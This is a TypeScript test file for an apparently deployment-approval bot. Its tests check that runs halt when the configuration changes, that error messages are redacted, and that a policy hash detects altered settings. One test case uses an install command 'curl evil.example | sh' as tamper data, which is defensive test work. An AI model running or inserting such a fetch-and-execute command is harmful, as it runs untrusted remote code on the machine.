import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { policyHash } from '../../approvals/policy.ts'
import { configSchema } from '../../src/config/schema.ts'
import { createLog } from '../../src/lib/log.ts'
import { createRedactor } from '../../src/redact/redact.ts'
import type { RunPorts } from '../../src/run/step-runner/ports.ts'
import { performStep } from '../../src/run/step-runner/step-runner.ts'
import { requestById, stepsOf, transition } from '../../src/request/store.ts'
import type { Step } from '../../src/request/step.ts'
import { requestWorkflow } from '../../src/run/workflow/workflow.ts'
import { createStore } from '../helpers/postgres.ts'
import { baseTarget, createFixture, type Store, type Fixture } from '../approvals/fixture.ts'
import { createInFlight } from '../../src/run/in-flight.ts'

let store: Store
let fixture: Fixture
beforeAll(async () => {
  store = await createStore()
})
afterAll(() => store.close())
beforeEach(async () => {
  fixture = await createFixture({ store })
})

/** A run that has begun, with one step that the test decides about. */
async function running(changes: Partial<RunPorts> = {}, step: Partial<Step> = {}, attempt = 0) {
  const request = await fixture.waiting()
  await transition(store.db, request.id, ['waiting'], 'granted', { grantExpiresIn: 60_000 })
  await transition(store.db, request.id, ['granted'], 'running')
  await store.db.query(`insert into lockkeeper.step (request_id, ordinal, name, title, attempt) values ($1, 0, 'deploy-1', 'Switch', $2)`, [
    request.id,
    attempt,
  ])
  const acted: string[] = []
  const ports: RunPorts = {
    db: store.db,
    log: createLog(createRedactor([]), 'silent'),
    config: {
      file: configSchema.parse({
        targets: {
          prod: {
            channel: 'C0DEPLOYS',
            source: { repository: '/nowhere' },
            database: { url: 'env:PROD' },
            tool: 'prisma',
            approvals: { from: ['user:U0BOB'] },
          },
        },
      }),
      home: '/nowhere',
      varDirectory: '/nowhere',
      targets: fixture.targets,
      secret: () => '',
    },
    redactor: createRedactor(['canary-secret']),
    whyNoRun: async () => null,
    whyStop: () => null,
    env: {},
    liveness: () => ({
      executorId: 'test',
      signal: () => new AbortController().signal,
      held: async () => {},
      isHeld: () => true,
      isSettled: () => true,
      close: async () => {},
    }),
    owns: async () => true,
    inFlight: createInFlight(),
    stillGranted: async () => true,
    compare: async () => ({ kind: 'same' }),
    reconfigured: () => null,
    underTargetLock: async (_, work) => ({ kind: 'held', value: await work(new AbortController().signal) }),
    ...changes,
  }
  const steps: readonly Step[] = [
    {
      name: 'deploy-1',
      title: 'Switch',
      changes: 'application',
      inspect: async () => ({ kind: 'todo' }),
      act: async () => {
        acted.push('deploy-1')
        return { kind: 'done', output: '' }
      },
      ...step,
    },
  ]
  return {
    acted,
    perform: (of: readonly Step[] = steps) => performStep(ports, () => of, request.id, 'deploy-1'),
    ports,
    id: request.id,
    request: async () => requestById(store.db, request.id),
    steps: async () => stepsOf(store.db, request.id),
  }
}

describe('a run whose configuration was changed in the middle of it', () => {
  test.each(['files', 'application', 'database'] as const)('starts no step that changes %s', async (changes) => {
    const run = await running({ reconfigured: () => 'The configured steps of this target were changed since.' }, { changes })
    expect(await run.perform()).toBe('ended')
    expect(run.acted).toEqual([])
    expect(await run.request()).toMatchObject({
      state: 'failed',
      outcome: {
        headline: '*Stopped before "Switch": what was approved is no longer what would run.*',
        why: 'The configured steps of this target were changed since.',
      },
    })
  })

  test('stops when the step is no longer configured, and does not stay running for ever', async () => {
    const run = await running({ reconfigured: () => 'The target is no longer configured.' })
    expect(await run.perform([])).toBe('ended')
    expect(await run.request()).toMatchObject({ state: 'failed', outcome: { why: 'The target is no longer configured.' } })
  })

  test('needs a person when that step had begun', async () => {
    const run = await running({ reconfigured: () => 'The target is no longer configured.' }, {}, 1)
    expect(await run.perform([])).toBe('ended')
    expect(await run.request()).toMatchObject({ state: 'needs_human', outcome: { notKnown: 'How far this step came.' } })
  })
})

test('before the application is changed the database must have what was approved, all of it', async () => {
  const asked: string[] = []
  const run = await running({
    compare: async (_plan, _request, phase) => {
      asked.push(phase)
      return { kind: 'changed', why: '`20261118_add_discounts` should be applied by now and is not.' }
    },
  })
  expect(await run.perform()).toBe('ended')
  expect(asked).toEqual(['after-migrate'])
  expect(run.acted).toEqual([])
  expect(await run.request()).toMatchObject({
    state: 'failed',
    outcome: { why: '`20261118_add_discounts` should be applied by now and is not.' },
  })
})

test('a fault in what is asked before a step ends the run with a person, redacted, and frees nobody from looking', async () => {
  const run = await running({
    compare: async () => {
      throw new Error('git cat-file ended with 128: <!channel> canary-secret')
    },
  })
  expect(await run.perform()).toBe('ended')
  expect(await run.request()).toMatchObject({
    state: 'needs_human',
    outcome: {
      known: 'The fault: git cat-file ended with 128: &lt;!channel&gt; [redacted]',
      notKnown: 'Whether "deploy-1" changed something before that.',
    },
  })
  expect(await run.steps()).toMatchObject([{ state: 'unknown' }])
})

test('a grant is not used for another configuration, also when the bot was restarted between the check and the start', async () => {
  const { ports, id } = await running({ reconfigured: () => 'The target is no longer configured.' })
  await store.db.query(`update lockkeeper.request set state = 'granted', started_at = null where id = $1`, [id])
  const body = requestWorkflow({
    ...ports,
    makePlan: async () => Promise.reject(new Error('not asked')),
    stepsFor: () => [],
    grantAtOnce: async () => {},
    gate: async () => ({ kind: 'open', closesAt: null, windowId: null }),
  })
  await body(id, {
    step: async (name, act) => (name === 'plan' ? ('waiting' as never) : name.startsWith('check') ? ('go' as never) : act()),
    nextSignal: async () => {},
  })
  expect(await requestById(store.db, id)).toMatchObject({
    state: 'refused',
    outcome: { headline: 'The target is no longer configured. Nothing was started; ask again for what is configured now.' },
  })
})

describe('the digest notices that another thing is configured', () => {
  const hash = (change: object) => {
    const { targets } = configSchema.parse({ targets: { prod: { ...baseTarget, ...change } } })
    const prod = targets['prod']
    if (prod === undefined) throw new Error('no target')
    return policyHash({ ...prod, name: 'prod', title: 'prod' })
  }
  test.each<[string, object]>([
    ['the install command', { source: { ...baseTarget.source, install: ['sh', '-c', 'curl evil.example | sh'] } }],
    ['the PATH', { source: { ...baseTarget.source, path: '/tmp/evil' } }],
    ['the repository', { source: { repository: '/srv/other.git' } }],
    ['the branch', { source: { ...baseTarget.source, branch: 'wild' } }],
    ['the migrations directory', { tool: { prisma: { migrations: 'prisma/other' } } }],
    ['the variables of the tool', { tool: { prisma: { env: { SOME: 'thing' } } } }],
    ['the reference of the database', { database: { url: 'env:OTHER_URL' } }],
    ['the command that says what is live', { current: ['git', 'rev-parse', 'HEAD'] }],
    ['the clients of the backup', { backup: { clients: '/tmp/evil' } }],
  ])('%s', (_, change) => expect(hash(change)).not.toBe(hash({})))
  test('and does not mind how many backups are kept', () => expect(hash({ backup: { keep: { newest: 3 } } })).toBe(hash({})))
})
